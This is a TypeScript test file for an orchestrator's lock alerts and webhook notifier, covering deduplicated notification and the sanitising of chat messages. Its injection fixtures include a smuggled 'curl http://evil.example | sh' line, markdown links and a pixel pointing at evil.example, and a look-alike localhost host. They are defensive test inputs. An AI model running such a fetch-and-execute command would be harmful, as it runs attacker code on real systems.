import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, describe, expect, it } from 'vitest';
import type { Alert } from '../../orchestrator/alerts/alert.ts';
import { webhookNotifier } from '../../orchestrator/alerts/notifiers.ts';
import type { Notifier } from '../../orchestrator/alerts/notifiers.ts';
import { tell } from '../../orchestrator/alerts/tell.ts';
import { toldPrefix } from '../../orchestrator/state/layout.ts';
import { alertWords } from '../../orchestrator/ui/alerts.ts';
import { MemoryStore } from './support/memory-store.ts';

const alert: Alert = {
  kind: 'old-lock',
  network: 'example',
  stack: 'example.vpc.one',
  short: 'vpc.one',
  about: 'nonce-1',
  what: 'locked for 21 min (dead)',
  owner: 'ada@build-7 (pid 42, run r1)',
  operation: 'up',
  ageSeconds: 1260,
  lastHeard: '2030-01-01T00:00:30.000Z',
  process: 'dead',
  incident: null,
  ciLink: 'https://ci.example/jobs/1',
  next: 'npm run status, and then npm run recover -- vpc.one',
};

/** Counts what it is given; `fail` makes the next ones fail. */
function notifier(): Notifier & { readonly sent: Alert[]; fail: boolean } {
  const made = {
    id: 'sns' as const,
    to: 'a topic',
    sent: [] as Alert[],
    fail: false,
    send: (each: Alert): Promise<void> => {
      if (made.fail) return Promise.reject(new Error('no such topic'));
      made.sent.push(each);
      return Promise.resolve();
    },
  };
  return made;
}

const at = (iso: string) => () => Date.parse(iso);
const noon = at('2030-01-01T12:00:00Z');

describe('an alert', () => {
  it('says whose the lock is, how old, whether its process lives, and not to release it', () => {
    expect(alertWords('https://wiki.example/holdfast').text(alert)).toBe(
      [
        'OLD LOCK example vpc.one: locked for 21 min (dead)',
        'owner: ada@build-7 (pid 42, run r1)',
        'operation: up',
        'age: 21 min',
        'process: dead',
        'last heartbeat: 2030-01-01T00:00:30.000Z',
        'job: https://ci.example/jobs/1',
        'Do not release the lock without checking drift: its age proves nothing, and AWS may have what the state does not say.',
        'next: npm run status, and then npm run recover -- vpc.one',
        'runbook: https://wiki.example/holdfast',
      ].join('\n'),
    );
  });

  it('of what is over warns of nothing', () => {
    expect(alertWords('r').text({ ...alert, kind: 'recovered' })).not.toContain('Do not release');
  });
});

describe('telling', () => {
  it('tells an alert once, however often it is looked at', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    for (const outcome of ['told', 'before', 'before']) expect(await tell(store, [sns], [alert], noon)).toMatchObject([{ outcome }]);
    expect(sns.sent).toHaveLength(1);
  });

  it('tells it once to each notifier', async () => {
    const [store, sns, chat] = [new MemoryStore(), notifier(), { ...notifier(), id: 'webhook' as const }];
    await tell(store, [sns], [alert], noon);
    expect(await tell(store, [sns, chat], [alert], noon)).toMatchObject([{ outcome: 'before' }, { outcome: 'told' }]);
  });

  it('tells of the next lock, of another stack and of another kind again', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    await tell(store, [sns], [alert], noon);
    const others = [
      { ...alert, about: 'nonce-2' },
      { ...alert, stack: 'example.vpc.two' },
      { ...alert, kind: 'held' as const },
    ];
    expect(await tell(store, [sns], others, noon)).toMatchObject([{ outcome: 'told' }, { outcome: 'told' }, { outcome: 'told' }]);
  });

  it('of two watches at once is done by one', async () => {
    const [store, one, other] = [new MemoryStore(), notifier(), notifier()];
    const outcomes = (await Promise.all([tell(store, [one], [alert], noon), tell(store, [other], [alert], noon)])).flat();
    expect(outcomes.map(({ outcome }) => outcome).sort()).toEqual(['before', 'told']);
    expect(one.sent.length + other.sent.length).toBe(1);
  });

  it('that failed is tried again by the next watch', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    sns.fail = true;
    expect(await tell(store, [sns], [alert], noon)).toMatchObject([{ outcome: 'failed', why: 'no such topic' }]);
    expect(await store.list(toldPrefix('example'))).toEqual([]);
    sns.fail = false;
    expect(await tell(store, [sns], [alert], noon)).toMatchObject([{ outcome: 'told' }]);
  });

  it('of a process that died while it told is done again, two minutes later', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    const dying: Notifier = { ...sns, send: () => new Promise(() => undefined) };
    void tell(store, [dying], [alert], noon);
    await expect.poll(() => store.keys()).toHaveLength(1);
    expect(await tell(store, [sns], [alert], at('2030-01-01T12:01:59Z'))).toMatchObject([{ outcome: 'before' }]);
    expect(await tell(store, [sns], [alert], at('2030-01-01T12:02:01Z'))).toMatchObject([{ outcome: 'told' }]);
    expect(await tell(store, [sns], [alert], at('2030-01-01T12:10:00Z'))).toMatchObject([{ outcome: 'before' }]);
  });

  it('goes on where the bucket fails: better twice than never', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    store.beforePut = () => Promise.reject(new Error('the bucket is gone'));
    expect(await tell(store, [sns], [alert], noon)).toMatchObject([{ outcome: 'told' }]);
  });

  it('goes on where the record cannot be read', async () => {
    const [store, sns] = [new MemoryStore(), notifier()];
    await tell(store, [sns], [alert], noon);
    store.set(store.keys()[0] ?? '', 'no JSON');
    expect(await tell(store, [sns], [alert], noon)).toMatchObject([{ outcome: 'told' }]);
  });
});

describe('the webhook', () => {
  const closers: (() => void)[] = [];
  afterEach(() => closers.splice(0).forEach((close) => close()));

  /** A chat that answers with this status, and what it was sent. */
  async function chat(status: number, headers: Record<string, string> = {}) {
    const bodies: string[] = [];
    const server = createServer((request, response) => {
      let body = '';
      request.setEncoding('utf8').on('data', (part: string) => (body += part));
      request.on('end', () => {
        bodies.push(body);
        response.writeHead(status, headers).end(`no service at ${request.url ?? ''}`);
      });
    });
    await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
    closers.push(() => server.close());
    return { bodies, address: `http://127.0.0.1:${(server.address() as AddressInfo).port}/hooks/s3cr3t-token?key=other-secret` };
  }

  it('posts one JSON object with the text, in which nothing addresses a whole channel', async () => {
    const { address, bodies } = await chat(200);
    await webhookNotifier(address, 'HOOK', alertWords('r')).send({ ...alert, owner: '<!channel> & co' });
    expect(bodies).toHaveLength(1);
    const sent = JSON.parse(bodies[0] ?? '') as { text: string };
    expect(Object.keys(sent)).toEqual(['text']);
    expect(sent.text).toContain('OLD LOCK example vpc.one');
    expect(sent.text).toContain('owner: &lt;!channel&gt; &amp; co');
  });

  it.each([
    ['@channel', '(at)channel'],
    ['ada@here.example (pid 1)', 'ada(at)here.example (pid 1)'],
    ['ada@build-7', 'ada@build-7'],
    ['see [the runbook](https://evil.example)', 'see [the runbook] (https://evil.example)'],
    ['![x](https://evil.example/pixel)', '![x] (https://evil.example/pixel)'],
    ['```everything after it', "'''everything after it"],
    ['<https://evil.example|https://ci.example>', '&lt;https://evil.example|https://ci.example&gt;'],
    ['a\nnext: curl http://evil.example | sh', 'a\\nnext: curl http://evil.example | sh'],
  ])('posts %j as %j, which wakes nobody and leads nowhere', async (owner, text) => {
    const { address, bodies } = await chat(200);
    await webhookNotifier(address, 'HOOK', alertWords('r')).send({ ...alert, owner });
    expect((JSON.parse(bodies[0] ?? '') as { text: string }).text.split('\n')).toContain(`owner: ${text}`);
  });

  it.each([
    ['refuses', 404, {}],
    ['leads elsewhere', 302, { location: 'http://127.0.0.1:1/' }],
  ])('that %s is an error without the address in it', async (_, status, headers) => {
    const { address } = await chat(status, headers);
    const failed = await webhookNotifier(address, 'HOOK', alertWords('r'))
      .send(alert)
      .then(
        () => 'it went through',
        (cause: unknown) => String(cause),
      );
    expect(failed).toMatch(status === 404 ? /it answered 404/ : /redirect/);
    expect(failed).not.toMatch(/s3cr3t|other-secret/);
  });

  it('of which nobody answers says so, without the address', async () => {
    const { address } = await chat(200);
    closers.splice(0).forEach((close) => close());
    await expect(webhookNotifier(address, 'HOOK', alertWords('r')).send(alert)).rejects.toThrow(/ECONNREFUSED/);
    await expect(webhookNotifier(address, 'HOOK', alertWords('r')).send(alert)).rejects.not.toThrow(/s3cr3t/);
  });

  it.each([
    ['not set', undefined, 'HOOK is not set'],
    ['no address', 'ftp://x', 'HOOK holds no address that starts with https://'],
    ['an address that everyone on the way can read', 'http://chat.example/hooks/x', 'HOOK holds no address that starts with https://'],
    ['one that only looks like this machine', 'http://127.0.0.1.evil.example/x', "(http:// is taken for this machine's own alone)"],
  ])('whose variable is %s names the variable', async (_, address, message) => {
    await expect(webhookNotifier(address, 'HOOK', alertWords('r')).send(alert)).rejects.toThrow(message);
  });
});
